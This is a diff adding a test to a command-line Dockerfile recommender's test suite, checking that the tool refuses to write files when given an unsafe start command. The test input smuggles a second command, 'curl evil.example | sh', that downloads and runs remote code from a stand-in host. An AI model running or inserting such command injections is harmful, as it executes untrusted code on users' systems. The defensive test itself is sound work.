@@ -518,6 +518,27 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
       expect(readFileSync(join(out, "Dockerfile"), "utf8")).toBe(files.Dockerfile);
     });
 
+    it("exits 1 and writes nothing when the start command cannot be written safely", () => {
+      const out = join(scratch, "unsafe-out");
+      const cmd = "gunicorn app:app; curl evil.example | sh";
+      const run = runBinary(
+        CLONE_BIN,
+        ["recommend", "--cmd", cmd, "--today", TODAY, "--out", out],
+        {
+          cwd: ROOT,
+        },
+      );
+      const engine = recommend(
+        { ...defaultAnswers, architectures: ["amd64"], command: cmd },
+        { today: TODAY },
+      );
+      expect(engine.ready).toBe(false);
+      expect(run.status).toBe(1);
+      expect(run.stdout).toContain("No files");
+      for (const code of engine.blockedBy) expect(run.stdout).toContain(code);
+      expect(() => readdirSync(out)).toThrow();
+    });
+
     it("migrates a Dockerfile given with --from, and says when it cannot keep its Python", () => {
       const run = runBinary(CLONE_BIN, ["recommend", "--from", BLOATED, "--today", TODAY], {
         cwd: ROOT,
